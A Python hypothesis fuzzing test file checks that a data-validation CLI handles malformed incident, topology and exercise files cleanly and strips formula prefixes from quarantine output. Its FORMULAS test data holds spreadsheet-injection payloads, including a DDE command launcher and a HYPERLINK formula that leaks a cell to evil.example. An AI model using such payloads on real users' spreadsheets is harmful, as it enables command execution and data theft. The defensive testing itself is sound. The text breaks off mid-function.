"""No input ends in exit 1: property-based fuzzing of the readers and validation (hypothesis).

For every input kind (incidents, topology, the exercise log and column mappings), whatever
the file holds, the run ends in one of two ways, never in a traceback or exit 1:

- exit 0: every row read is used or quarantined with a known reason; validation.json
  reconciles rows_read = rows_used + rows_quarantined, rows_read is the number of rows the file
  has, quarantine.csv lists exactly the quarantined rows, and no cell there starts a
  spreadsheet formula;
- exit 2: ONE printable line on stderr, `whatif: error: <file>[, row N][, column C]: <message>
  (<hint>)`, naming the file given, and nothing on stdout.

The properties:

1. any bytes, and any mutation of a valid file, as any input (CSV, TSV, JSON Lines, Parquet,
   mapping YAML);
2. any cell value in any column: timestamps of any year or form, NaN/inf/huge numbers,
   control characters, bidi marks, 100 kB cells, spreadsheet formulas, JSON values of every
   type; a well-formed file with the contract's columns is always read (exit 2 only for what
   its content says: a binary byte, no usable row, a topology fault);
3. broken structure: truncated files, duplicate or shuffled headers, extra or missing columns
   and fields, blank lines; a file changed only in harmless ways reads as the original did;
4. odd encodings: UTF-16/32 with or without a BOM, cp1252, stray BOMs, NUL bytes, CR-only and
   CRLF line ends;
5. any mapping file: any YAML shape and value (split separators, time zones, formats...).

Incidents, topology and mappings go through the CLI's own `main(["--debug", "validate",
...])` in-process (`--debug` re-raises an internal error, so hypothesis shows and shrinks
it); the exercise log, read by `whatif run` only, through pipeline.load_exercise_log, the
function the run calls, with a UserError printed as main prints it. A few subprocess checks run
the installed command itself.

Profiles: `ci` (the default: few examples, deterministic, for `make test`) and `fuzz`
(HYPOTHESIS_PROFILE=fuzz, `make fuzz`: many more). Each failure hypothesis found is pinned as
an explicit regression test at the end of this file.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from unittest import mock

import pandas as pd
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from shared import PROJECT
from whatif import pipeline, readiness, runfolder, validate
from whatif.cli import main
from whatif.config import RunConfig
from whatif.errors import UserError
from whatif.schemas import (
    FAILURE_MODES,
    INCIDENT_OPTIONAL,
    INCIDENT_REQUIRED,
    TOPOLOGY_OPTIONAL,
    TOPOLOGY_REQUIRED,
)

settings.register_profile(
    "ci",
    max_examples=30,
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=True,
    suppress_health_check=(HealthCheck.too_slow, HealthCheck.data_too_large),
)
settings.register_profile(
    "fuzz",
    max_examples=500,
    deadline=None,
    print_blob=True,
    suppress_health_check=(HealthCheck.too_slow, HealthCheck.data_too_large),
)
settings.load_profile(os.environ.get("HYPOTHESIS_PROFILE", "ci"))

BAD = PROJECT / "tests" / "data" / "bad"
AS_OF = "2026-11-01"
AS_OF_TIME = datetime(2026, 11, 1, tzinfo=UTC)
SERVICES = ("web", "api", "db", "cache")
FORMULA_STARTS = validate.FORMULA_STARTS
INCIDENT_COLUMNS = (*INCIDENT_REQUIRED, *INCIDENT_OPTIONAL)  # the data contract's
TOPOLOGY_COLUMNS = (*TOPOLOGY_REQUIRED, *TOPOLOGY_OPTIONAL)
EXERCISE_COLUMNS = (*readiness.REQUIRED, *readiness.OPTIONAL)
EXERCISE_REASONS = {
    "bad_date",
    "date_in_the_future",
    "unknown_service",
    "unknown_failure_mode",
    "bad_outcome",
    "missing_team",
}
INCIDENT_REASONS = {
    check.reason
    for check in validate.incident_checks(pd.Timestamp(AS_OF_TIME))
    if check.level == "soft"
} | {"duplicate", "outside_window"}

# --------------------------------------------------------------------------- running


@dataclasses.dataclass(frozen=True)
class Outcome:
    """How a run ended: exit code, output, and what it wrote when it succeeded."""

    code: int
    out: str
    err: str
    validation: dict | None = None  # validation.json (incidents, topology)
    quarantine: list[dict[str, str]] | None = None  # quarantine.csv / quarantine_exercises.csv
    exercises: dict | None = None  # the exercise log's counts


@contextmanager
def folder() -> Iterator[Path]:
    """A fresh folder per example (pytest's tmp_path is one per test, not per example)."""
    with tempfile.TemporaryDirectory(prefix="whatif-fuzz-") as name:
        yield Path(name)


def validate_cli(
    where: Path, incidents: Path, topology: Path, mapping: Path | None = None
) -> Outcome:
    """`whatif --debug validate ...` in-process, keeping the quarantine.csv it writes in its
    throw-away work folder."""
    out, kept = where / "validation.json", where / "kept-quarantine.csv"
    real = pipeline.run_validation

    def keep_quarantine(workdir: Path, *args: Any, **kwargs: Any) -> dict[str, Any]:
        summary = real(workdir, *args, **kwargs)
        shutil.copyfile(Path(workdir) / "quarantine.csv", kept)
        return summary

    args = ["--debug", "validate", "--incidents", str(incidents), "--topology", str(topology)]
    args += ["--as-of", AS_OF, "--out", str(out)]
    args += ["--mapping", str(mapping)] if mapping else []
    stdout, stderr = io.StringIO(), io.StringIO()
    with (
        mock.patch.object(pipeline, "run_validation", keep_quarantine),
        redirect_stdout(stdout),
        redirect_stderr(stderr),
    ):
        code = main(args)
    if code != 0:
        return Outcome(code, stdout.getvalue(), stderr.getvalue())
    return Outcome(
        code,
        stdout.getvalue(),
        stderr.getvalue(),
        json.loads(out.read_text(encoding="utf-8")),
        read_csv_rows(kept),
    )


def exercises_run(where: Path, log: Path) -> Outcome:
    """The exercise log as `whatif run --exercises` reads it (pipeline.load_exercise_log); a
    UserError printed as main prints it."""
    try:
        pipeline.load_exercise_log(where, RunConfig(exercises=str(log)), list(SERVICES), AS_OF_TIME)
    except UserError as error:
        return Outcome(2, "", f"whatif: error: {error}\n")
    logged = runfolder.stage_path(where, runfolder.EXERCISES_FILE)
    found = json.loads(logged.read_text())["validation"]
    quarantine = where / "quarantine_exercises.csv"
    rows = read_csv_rows(quarantine) if quarantine.exists() else []
    return Outcome(0, "", "", quarantine=rows, exercises=found)


def read_csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


# --------------------------------------------------------------------------- the product rule


def assert_one_error_line(outcome: Outcome, *files: Path) -> None:
    """Exit 2 with one printable line naming one of the files given, nothing on stdout."""
    assert outcome.code == 2, outcome
    assert outcome.out == ""
    assert outcome.err.endswith("\n") and outcome.err.count("\n") == 1, outcome.err
    line = outcome.err[:-1]
    assert line.isprintable(), line
    assert len(line) < 2000, line[:300]
    named = [f for f in map(str, files) if line.startswith(f"whatif: error: {f}")]
    assert named, line
    rest = line[len(f"whatif: error: {named[0]}") :]
    where = re.match(r"(?:, row (\d+))?(?:, column [^:]*?)?: \S", rest)
    assert where, line
    assert where.group(1) is None or int(where.group(1)) >= 1, line


def assert_reconciled(outcome: Outcome, incident_rows: int | None, topology_rows: int | None):
    """Exit 0: the counts add up and every quarantined row is listed with known reasons."""
    assert outcome.code == 0 and outcome.validation is not None, outcome.err
    counts = outcome.validation["inputs"]["incidents"]
    read, used, quarantined = (counts[k] for k in ("rows_read", "rows_used", "rows_quarantined"))
    assert read == used + quarantined and used > 0
    if incident_rows is not None:
        assert counts.get("source_rows", read) == incident_rows
    by_reason = counts["quarantined_by_reason"]
    assert set(by_reason) <= INCIDENT_REASONS
    assert sum(by_reason.values()) >= quarantined and (quarantined == 0) == (not by_reason)
    assert_quarantine_rows(outcome.quarantine, quarantined, INCIDENT_REASONS)
    topology = outcome.validation["inputs"]["topology"]
    assert topology["rows_read"] == topology["rows_used"]
    if topology_rows is not None:
        assert topology["rows_read"] == topology_rows


def assert_quarantine_rows(rows: list[dict[str, str]] | None, count: int, reasons: set[str]):
    assert rows is not None and len(rows) == count
    for row in rows:
        assert row["reason"] and set(row["reason"].split(";")) <= reasons, row["reason"]
        assert int(row["row"]) >= 1
        for column, value in row.items():
            assert not (value or "").startswith(FORMULA_STARTS), (column, value[:50])


def assert_exercises_reconciled(outcome: Outcome, rows: int | None) -> None:
    assert outcome.code == 0 and outcome.exercises is not None, outcome.err
    found = outcome.exercises
    assert found["rows_read"] == found["rows_used"] + found["rows_quarantined"]
    if rows is not None:
        assert found["rows_read"] == rows
    assert sum(found["quarantined_by_reason"].values()) == found["rows_quarantined"]
    assert_quarantine_rows(outcome.quarantine, found["rows_quarantined"], EXERCISE_REASONS)


def record(outcome: Outcome) -> None:
    """How the example ended, for `--hypothesis-show-statistics` (how deep the fuzz got)."""
    message = re.sub(r"^whatif: error: .*?: ", "", outcome.err.split(" (")[0])
    event(f"exit {outcome.code}" + (f": {message[:50]}" if outcome.code else ""))


def assert_product_rule(outcome: Outcome, *files: Path) -> None:
    """Either ending the module docstring allows (counts checked when exit 0)."""
    record(outcome)
    if outcome.code == 2:
        assert_one_error_line(outcome, *files)
    elif outcome.exercises is not None:
        assert_exercises_reconciled(outcome, None)
    else:
        assert_reconciled(outcome, None, None)


# --------------------------------------------------------------------------- valid inputs

BASE_INCIDENTS = BAD / "incidents.csv"
BASE_TOPOLOGY = BAD / "topology.csv"
BASE_EXERCISES = """\
date,scenario,team,outcome,action_items,facilitator
2026-06-10,db:database,data-team,passed,Automate the failover runbook,Ana Ortiz
2026-09-02,cache--capacity,data-team,failed,Add eviction alerts,Ana Ortiz
2026-10-14,api,api-team,partial,,Sam Lee
"""
BASE_MAPPING = """\
name: fuzz
columns:
  incident_id: [ticket, id]
  service: affected
  started_at: opened
  resolved_at: closed
  severity: priority
  title: summary
split: {service: ","}
values: {severity: {highest: SEV1}}
timezone: UTC
"""
BASE_EXPORT = """\
ticket,affected,opened,closed,priority,summary
T1,"db, api",2026-01-05T10:00:00Z,2026-01-05T11:00:00Z,highest,db down
T2,web,2026-02-10 09:00,2026-02-10 09:30,P3,bad deploy
T3,cache,2026-03-01T12:00:00+01:00,,low,evictions
"""


def table_of(text: str) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(io.StringIO(text)))
    return rows[0], rows[1:]


def base_text(kind: str) -> str:
    return {
        "incidents": BASE_INCIDENTS.read_text(encoding="utf-8"),
        "topology": BASE_TOPOLOGY.read_text(encoding="utf-8"),
        "exercises": BASE_EXERCISES,
        "mapping": BASE_MAPPING,
    }[kind]


# --------------------------------------------------------------------------- writing files


def csv_field(value: str, delimiter: str) -> str:
    """A field as a spreadsheet writes it: quoted when it holds the delimiter, a quote, or a
    line break (csv.writer leaves a lone CR unquoted, which every reader takes for a row end)."""
    if any(c in value for c in (delimiter, '"', "\r", "\n")):
        return '"' + value.replace('"', '""') + '"'
    return value


def csv_text(header: list[str], rows: list[list[str]], delimiter: str = ",", end: str = "\n"):
    lines = [header, *rows]
    return "".join(delimiter.join(csv_field(c, delimiter) for c in line) + end for line in lines)


def json_lines(header: list[str], rows: list[list[Any]]) -> str:
    return "".join(json.dumps(dict(zip(header, row, strict=True))) + "\n" for row in rows)


def write_table(
    where: Path, name: str, header: list[str], rows: list[list[Any]], fmt: str, delimiter: str
) -> Path:
    """The table as CSV (any delimiter), JSON Lines or Parquet (cells as text)."""
    if fmt == "jsonl":
        path = where / f"{name}.jsonl"
        path.write_text(json_lines(header, rows), encoding="utf-8")
    elif fmt == "parquet":
        path = where / f"{name}.parquet"
        frame = pd.DataFrame([[as_text(c) for c in row] for row in rows], columns=header)
        frame.astype(str).to_parquet(path, index=False)
    else:
        path = where / f"{name}.csv"
        text_rows = [[as_text(c) for c in row] for row in rows]
        path.write_text(csv_text(header, text_rows, delimiter), encoding="utf-8")
    return path


def as_text(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value)


def write_base(where: Path, kind: str) -> Path:
    path = where / {"incidents": "incidents.csv", "topology": "topology.csv"}.get(kind, kind)
    path.write_text(base_text(kind), encoding="utf-8")
    return path


def run_kind(where: Path, kind: str, path: Path) -> tuple[Outcome, tuple[Path, ...]]:
    """Run `path` as the input `kind`, with valid files for the others: (outcome, files)."""
    if kind == "exercises":
        return exercises_run(where, path), (path,)
    if kind == "mapping":
        export = where / "export.csv"
        export.write_text(BASE_EXPORT, encoding="utf-8")
        topology = write_base(where, "topology")
        return validate_cli(where, export, topology, path), (path, export, topology)
    given = {"incidents": BASE_INCIDENTS, "topology": BASE_TOPOLOGY, kind: path}
    outcome = validate_cli(where, given["incidents"], given["topology"])
    return outcome, (given["incidents"], given["topology"])


# --------------------------------------------------------------------------- cell values

BIDI_MARKS = ("\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f")
FORMULAS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
)
ODD_NUMBERS = (
    "NaN", "nan", "-nan", "inf", "-inf", "Infinity", "1e308", "1e309", "-1e309", "9" * 400,
    "1e-400", "0", "-0", "-1", "0.0", "1_000", "0x10", "1,5", "12%", "99.9%", " 7 ", "+3",
    "1e15", "-1e15", "4.2e13", "5e17", "1e20",
)  # fmt: skip
ZONES = (
    "", "Z", "z", "+02:00", "-0500", "+14:00", "+99:99", "-24:00", " UTC", " GMT", " PDT",
    " Europe/Paris", " [America/New_York]", " Mars/Olympus", " [", "]", " Z Z", " Etc/GMT+12",
    "+05", "-03", "UTC", "+05:30 PDT",
)  # fmt: skip
SEVERITIES = ("SEV1", "sev2", "P3", "p5", "critical", "Major Outage", "degraded", "S0", "sev-9")
STATUSES = ("open", "Resolved", "in_progress", "WORK-IN-PROGRESS", "closed", "")


@st.composite
def iso_like(draw: st.DrawFn) -> str:
    """A timestamp-shaped text: any year (before 1677, after 2262, negative, five digits),
    out-of-range fields, any fraction, offset or zone name."""
    year = draw(
        st.one_of(
            st.sampled_from((1, 1000, 1676, 1677, 1678, 1900, 2025, 2026, 2261, 2262, 2263, 9999)),
            st.integers(-99999, 999999),
        )
    )
    month, day = draw(st.integers(0, 13)), draw(st.integers(0, 32))
    hour, minute, second = (
        draw(st.integers(0, 25)),
        draw(st.integers(0, 61)),
        draw(st.integers(0, 61)),
    )
    fraction = draw(st.sampled_from(("", ".5", ".123456", ".123456789", ".1234567891234")))
    sep = draw(st.sampled_from(("T", " ", "t", "")))
    zone = draw(st.sampled_from(ZONES))
    year_text = f"{year:04d}" if year >= 0 else f"-{-year:04d}"
    date = f"{year_text}-{month:02d}-{day:02d}"
    if draw(st.booleans()):
        return date + draw(st.sampled_from(("", zone)))
    return f"{date}{sep}{hour:02d}:{minute:02d}:{second:02d}{fraction}{zone}"


def timestamps() -> st.SearchStrategy[str]:
    """Timestamps of any year and form, valid or not."""
    return st.one_of(
        iso_like(),
        st.datetimes(min_value=datetime(1, 1, 1), timezones=st.none() | st.timezones()).map(
            lambda t: t.isoformat()
        ),
        st.dates().map(lambda d: d.isoformat()),
        st.dates().map(lambda d: d.strftime("%d/%m/%Y")),
        st.integers(-(2**63), 2**63).map(str),  # epoch seconds, milliseconds...
        st.sampled_from(("Mon, 04 May 2026 10:00:00 GMT", "now", "yesterday", "2026", "T", "")),
    )


def in_window() -> st.SearchStrategy[str]:
    """Valid timestamps inside the default history window: rows that are used."""
    return st.datetimes(datetime(2025, 1, 1), datetime(2026, 10, 30)).map(
        lambda t: t.isoformat() + "Z"
    )


def numbers() -> st.SearchStrategy[str]:
    return st.one_of(
        st.floats().map(repr),
        st.integers(-(2**70), 2**70).map(str),
        st.sampled_from(ODD_NUMBERS),
    )


def plain_text(max_size: int = 30) -> st.SearchStrategy[str]:
    """Any text without NUL (a NUL byte makes a file binary, which property 4 covers)."""
    return st.text(
        st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=max_size
    )


def hostile(big: bool = True) -> st.SearchStrategy[str]:
    """Cell values a real export may hold, whatever the column (100 kB ones when `big`)."""
    huge = st.sampled_from(("x", "é", "\u202e", ",", '"', "\n", " ", "=", "\u2028")).map(
        lambda c: c * 100_000
    )
    return st.one_of(
        plain_text(),
        st.sampled_from(FORMULAS),
        st.sampled_from(BIDI_MARKS).map(lambda m: f"{m}db{m}"),
        st.text(st.characters(max_codepoint=0x1F, exclude_characters="\x00"), max_size=3),
        huge if big else st.nothing(),
        numbers(),
        timestamps(),
        st.sampled_from(("", " ", "NULL", "None", "N/A", "-", "\ufeff", "true", "[]", "{}")),
    )


def mostly(usual: st.SearchStrategy[Any], odd: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """`usual` four times in five, else `odd`: deep enough into the run to find what breaks
    there, odd often enough to find what breaks early."""
    return st.sampled_from((True, True, True, True, False)).flatmap(lambda ok: usual if ok else odd)


def usually(draw: st.DrawFn) -> bool:
    """True four times in five."""
    return draw(st.sampled_from((True, True, True, True, False)))


def cell(typical: st.SearchStrategy[str], big: bool = True) -> st.SearchStrategy[str]:
    """Mostly what the column holds, often something hostile."""
    odd = hostile(big)
    return st.sampled_from((True, True, False)).flatmap(lambda ok: typical if ok else odd)


INCIDENT_CELLS: dict[str, st.SearchStrategy[str]] = {
    "incident_id": cell(st.sampled_from(("I1", "I2", "I7", "INC-9", "i7 "))),
    "service": cell(st.sampled_from((*SERVICES, " API ", "Db", "ghost", "web_"))),
    "started_at": cell(st.one_of(in_window(), timestamps())),
    "resolved_at": cell(st.one_of(in_window(), timestamps(), st.just(""))),
    "severity": cell(st.sampled_from(SEVERITIES)),
    "category": cell(st.sampled_from((*FAILURE_MODES, "Third party", "Config change"))),
    "title": hostile(),
    "description": hostile(),
    "detected_at": cell(st.one_of(in_window(), timestamps())),
    "acknowledged_at": cell(st.one_of(in_window(), timestamps())),
    "caused_by": cell(st.sampled_from(("I1", "I2", "I9", ""))),
    "team": cell(st.sampled_from(("web-team", "data-team", ""))),
    "load_factor": cell(numbers()),
    "duration_minutes": cell(numbers()),
    "duration_s": cell(numbers()),
    "status": cell(st.sampled_from(STATUSES)),
}
NAMES = ("queue", "search", "auth", "billing", "mail")
TOPOLOGY_CELLS: dict[str, st.SearchStrategy[str]] = {
    "service": mostly(st.sampled_from(NAMES), hostile()),
    "depends_on": cell(st.lists(st.sampled_from((*SERVICES, *NAMES)), max_size=3).map(";".join)),
    "tier": hostile(),
    "owner_team": cell(st.sampled_from(("web-team", "data-team"))),
    "user_facing": cell(st.sampled_from(("true", "false", "yes", "0", "maybe"))),
    "runbook_url": hostile(),
    "oncall": hostile(),
    "slo_target": cell(st.sampled_from(("0.999", "99.9", "99.95%", "1", "0"))),
    "traffic_weight": cell(numbers()),
    "soft_depends_on": cell(st.sampled_from(("", "cache", "db;queue", "web"))),
    "created_at": cell(st.one_of(in_window(), timestamps())),
}
EXERCISE_CELLS: dict[str, st.SearchStrategy[str]] = {
    "date": cell(st.one_of(st.dates().map(lambda d: d.isoformat()), timestamps())),
    "scenario": cell(
        st.builds(
            lambda s, sep, m: f"{s}{sep}{m}",
            st.sampled_from((*SERVICES, "API", "ghost")),
            st.sampled_from((":", "--", "", ": ")),
            st.sampled_from((*FAILURE_MODES, "", "meteor")),
        )
    ),
    "team": cell(st.sampled_from(("data-team", "api-team", ""))),
    "outcome": cell(st.sampled_from(("passed", "Partial", " FAILED ", "skipped"))),
    "action_items": hostile(),
    "facilitator": hostile(),
}
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | plain_text(10),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(plain_text(5), inner, max_size=3),
    max_leaves=8,
)


@st.composite
def fuzzed_table(
    draw: st.DrawFn,
    cells: dict[str, st.SearchStrategy[str]],
    required: tuple[str, ...],
    unique: str | None = None,
) -> tuple[list[str], list[list[Any]]]:
    """The contract's required columns and some optional ones, in any order, and 1-5 rows of
    fuzzed cells; the `unique` column's values differ (a repeated topology service stops the
    run: tests/unit/test_bad_inputs.py covers that)."""
    optional = [c for c in cells if c not in required]
    header = draw(
        st.permutations([*required, *draw(st.lists(st.sampled_from(optional), unique=True))])
    )
    rows = draw(
        st.lists(
            st.fixed_dictionaries({c: cells[c] for c in header}).map(
                lambda r: [r[c] for c in header]
            ),
            min_size=1,
            max_size=5,
            unique_by=(lambda r: " ".join(r[header.index(unique)].split()).lower())
            if unique
            else None,
        )
    )
    return header, rows


@st.composite
def with_base_rows(
    draw: st.DrawFn,
    table: st.SearchStrategy[tuple[list[str], list[list[Any]]]],
    base: str,
    always: bool = False,
) -> tuple[list[str], list[list[Any]]]:
    """The fuzzed rows mixed among the base file's valid rows (so that validation gets past
    'no usable row' and reaches every check), `always` or four times in five."""
    header, rows = draw(table)
    base_header, base_rows = table_of(base)
    valid = [[dict(zip(base_header, r, strict=True)).get(c, "") for c in header] for r in base_rows]
    if always or usually(draw):
        return header, draw(st.permutations(valid + rows))
    return header, rows


FORMATS = st.sampled_from(("csv", "csv", "csv", "jsonl", "parquet"))
DELIMITERS = st.sampled_from((",", ",", ";", "\t", "|"))


def json_cells(data: st.DataObject, rows: list[list[str]]) -> list[list[Any]]:
    """Some cells replaced by JSON values of other types (numbers, null, lists, objects)."""
    return [
        [data.draw(st.one_of(st.just(c), st.just(c), JSON_VALUES)) for c in row] for row in rows
    ]


# --------------------------------------------------------------------------- 1. any bytes

SUFFIXES = {
    "incidents": (".csv", ".tsv", ".jsonl", ".parquet", ".txt"),
    "topology": (".csv", ".jsonl", ".parquet"),
    "exercises": (".csv", ".jsonl", ".parquet"),
    "mapping": (".yaml",),
}


@st.composite
def mutated(draw: st.DrawFn, data: bytes) -> bytes:
    """A valid file with a few bytes inserted, deleted or replaced, or cut short."""
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(data)))
        op = draw(st.sampled_from(("insert", "delete", "replace", "truncate")))
        chunk = draw(st.binary(min_size=1, max_size=8))
        if op == "insert":
            data = data[:at] + chunk + data[at:]
        elif op == "delete":
            data = data[:at] + data[at + len(chunk) :]
        elif op == "replace":
            data = data[:at] + chunk + data[at + len(chunk) :]
        else:
            data = data[:at]
    return data


def any_bytes(kind: str, suffix: str) -> st.SearchStrategy[bytes]:
    if suffix == ".parquet":
        buffer = io.BytesIO()
        header, rows = table_of(base_text(kind))
        pd.DataFrame(rows, columns=header).to_parquet(buffer, index=False)
        valid = buffer.getvalue()
    elif suffix == ".jsonl":
        valid = json_lines(*table_of(base_text(kind))).encode()
    else:
        valid = base_text(kind).encode()
    return st.one_of(st.binary(max_size=300), mutated(valid))


@st.composite
def kind_suffix_bytes(draw: st.DrawFn) -> tuple[str, str, bytes]:
    kind = draw(st.sampled_from(tuple(SUFFIXES)))
    suffix = draw(st.sampled_from(SUFFIXES[kind]))
    return kind, suffix, draw(any_bytes(kind, suffix))


@given(kind_suffix_bytes())
def test_any_bytes_as_any_input(case: tuple[str, str, bytes]) -> None:
    kind, suffix, data = case
    with folder() as where:
        path = where / f"input{suffix}"
        path.write_bytes(data)
        outcome, files = run_kind(where, kind, path)
        assert_product_rule(outcome, *files)


# --------------------------------------------------------------------------- 2. any cell value


WELL_FORMED_ERRORS = (
    "binary content, not a text file",  # a control character in a cell, too many of them
    "no usable incident rows",
    "every topology row needs a service name",
    "each service may have one row only",
    # A dependency must be a service of the topology (docs/data-contract.md).
    "which is no service of the topology",
    "joins services with ','",
    "holds a ',', which no service name has",
    "differ only in case and would be two services",
)


def assert_well_formed_outcome(outcome: Outcome, files: tuple[Path, ...], rows: dict[str, int]):
    """A well-formed file is always read: exit 0 with every row accounted for, or an error
    about its content, never about its structure."""
    record(outcome)
    if outcome.code == 2:
        assert_one_error_line(outcome, *files)
        assert any(e in outcome.err for e in WELL_FORMED_ERRORS), outcome.err
    elif outcome.exercises is not None:
        assert_exercises_reconciled(outcome, rows["exercises"])
    else:
        assert_reconciled(outcome, rows.get("incidents"), rows.get("topology"))


@given(
    incidents=with_base_rows(
        fuzzed_table(INCIDENT_CELLS, INCIDENT_REQUIRED), base_text("incidents")
    ),
    topology=with_base_rows(
        fuzzed_table(TOPOLOGY_CELLS, TOPOLOGY_REQUIRED, unique="service"),
        base_text("topology"),
        always=True,  # the incidents' services
    ),
    fmt=FORMATS,
    delimiter=DELIMITERS,
    data=st.data(),
)
def test_any_cell_value_in_incidents_and_topology(incidents, topology, fmt, delimiter, data):
    """Both files fuzzed in one run (a validation costs ~0.3 s of Great Expectations)."""
    if fmt == "jsonl":
        incidents = (incidents[0], json_cells(data, incidents[1]))
    with folder() as where:
        paths = [
            write_table(where, name, *table, fmt, delimiter)
            for name, table in (("incidents", incidents), ("topology", topology))
        ]
        outcome = validate_cli(where, *paths)
        rows = {"incidents": len(incidents[1]), "topology": len(topology[1])}
        assert_well_formed_outcome(outcome, tuple(paths), rows)


@given(
    table=with_base_rows(fuzzed_table(EXERCISE_CELLS, readiness.REQUIRED), BASE_EXERCISES),
    fmt=FORMATS,
    delimiter=DELIMITERS,
    data=st.data(),
)
def test_any_cell_value_in_the_exercise_log(table, fmt, delimiter, data):
    if fmt == "jsonl":
        table = (table[0], json_cells(data, table[1]))
    with folder() as where:
        path = write_table(where, "exercises", *table, fmt, delimiter)
        outcome = exercises_run(where, path)
        assert_well_formed_outcome(outcome, (path,), {"exercises": len(table[1])})


# --------------------------------------------------------------------------- 3. structure

HARMLESS = {"shuffle", "extra_column", "blank_line", "drop_optional", "pad_spaces"}


@st.composite
def broken(draw: st.DrawFn, kind: str) -> tuple[str, bool, int]:
    """(file text, whether every change was harmless, data rows when harmless)."""
    header, rows = table_of(base_text(kind))
    required = {"incidents": INCIDENT_REQUIRED, "topology": TOPOLOGY_REQUIRED}.get(
        kind, readiness.REQUIRED
    )
    ops = draw(
        st.lists(
            st.sampled_from(
                (*sorted(HARMLESS), "duplicate_header", "drop_column", "ragged", "short_row",
                 "truncate", "header_only", "blank_first", "rename_header")
            ),
            min_size=1,
            max_size=4,
        )
    )  # fmt: skip
    blank_after: list[int] = []
    for op in ops:
        width = len(header)
        if not width:
            break
        i = draw(st.integers(0, width - 1))
        if op == "shuffle":
            order = draw(st.permutations(range(width)))
            header = [header[j] for j in order]
            rows = [[r[j] for j in order if j < len(r)] for r in rows]
        elif op == "extra_column":
            header = [*header, draw(st.sampled_from(("extra", "notes", "Unnamed: 3", "")))]
            # No control characters: one in every row of a small file makes it "binary".
            notes = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=5)
            rows = [[*r, draw(notes)] for r in rows]
        elif op == "blank_line":
            blank_after.append(draw(st.integers(1, len(rows) + 1)))
        elif op == "drop_optional" and header[i] not in required:
            header, rows = header[:i] + header[i + 1 :], [r[:i] + r[i + 1 :] for r in rows]
        elif op == "pad_spaces":
            header = [f"  {h.upper()} " if j == i else h for j, h in enumerate(header)]
        elif op == "duplicate_header":
            header = [*header, draw(st.sampled_from((header[i], header[i].upper() + " ")))]
            rows = [[*r, r[i] if i < len(r) else ""] for r in rows]
        elif op == "drop_column":
            header, rows = header[:i] + header[i + 1 :], [r[:i] + r[i + 1 :] for r in rows]
        elif op == "rename_header":
            header = [*header[:i], draw(plain_text(8)), *header[i + 1 :]]
        elif op in ("ragged", "short_row") and rows:
            k = draw(st.integers(0, len(rows) - 1))
            rows[k] = [*rows[k], "surplus"] if op == "ragged" else rows[k][:i]
        elif op == "header_only":
            rows = []
        elif op == "blank_first":
            blank_after.append(0)
    # At LF only: str.splitlines() would also split a cell at \x1e, \x85, \u2028...
    lines = [line + "\n" for line in csv_text(header, rows).split("\n")[:-1]]
    for at in sorted(blank_after, reverse=True):
        lines.insert(min(at, len(lines)), draw(st.sampled_from(("\n", "   \n", "\t\n"))))
    text = "".join(lines)
    if "truncate" in ops:
        text = text[: draw(st.integers(0, len(text)))]
    return text, set(ops) <= HARMLESS and 0 not in blank_after, len(rows)


@given(data=st.data(), kind=st.sampled_from(("incidents", "topology", "exercises")))
def test_broken_structure(data, kind):
    text, harmless, rows = data.draw(broken(kind))
    with folder() as where:
        path = where / f"{kind}.csv"
        path.write_text(text, encoding="utf-8")
        outcome, files = run_kind(where, kind, path)
        if harmless:  # read as the original was
            assert_well_formed_outcome(outcome, files, {kind: rows})
            assert outcome.code == 0, outcome.err
        else:
            assert_product_rule(outcome, *files)


# --------------------------------------------------------------------------- 4. encodings

ENCODINGS = (
    "utf-8",
    "utf-8-sig",
    "utf-16",
    "utf-16-be+bom",
    "utf-16-le",
    "utf-32",
    "cp1252",
    "latin-1",
)
READABLE = {"utf-8", "utf-8-sig", "utf-16", "utf-16-be+bom", "utf-32", "cp1252", "latin-1"}
ACCENTED = ("Dégradé à Orléans", "Grüße; señor", "naïve “quotes” – €", "plain")


def encode(text: str, encoding: str) -> bytes:
    if encoding == "utf-16-be+bom":
        return b"\xfe\xff" + text.encode("utf-16-be")
    return text.encode(encoding, errors="replace")


@st.composite
def encoded(draw: st.DrawFn, kind: str) -> tuple[bytes, bool, int]:
    """(file bytes, whether it must read as the original, data rows)."""
    header, rows = table_of(base_text(kind))
    last = len(header) - 1  # a free-text column in each base file (title, traffic...)
    rows = [
        [*r[:last], draw(st.sampled_from(ACCENTED)) if kind == "exercises" else r[last]]
        for r in rows
    ]
    end = draw(st.sampled_from(("\n", "\r\n", "\r")))
    text = csv_text(header, rows, draw(DELIMITERS), end)
    encoding = draw(st.sampled_from(ENCODINGS))
    readable = encoding in READABLE
    if draw(st.booleans()):  # a stray BOM: at the start of a line (files joined) or anywhere
        at = draw(
            st.sampled_from([m.end() for m in re.finditer(r"\n", text)] or [0])
            | st.integers(0, len(text))
        )
        text = text[:at] + "\ufeff" + text[at:]
        readable = False
    data = encode(text, encoding)
    if draw(st.booleans()):
        at = draw(st.integers(0, len(data)))
        data = data[:at] + b"\x00" + data[at:]
        readable = False
    return data, readable, len(rows)


@given(data=st.data(), kind=st.sampled_from(("incidents", "topology", "exercises")))
def test_odd_encodings(data, kind):
    raw, readable, rows = data.draw(encoded(kind))
    with folder() as where:
        path = where / f"{kind}.csv"
        path.write_bytes(raw)
        outcome, files = run_kind(where, kind, path)
        if readable:
            assert_well_formed_outcome(outcome, files, {kind: rows})
            assert outcome.code == 0, outcome.err
        else:
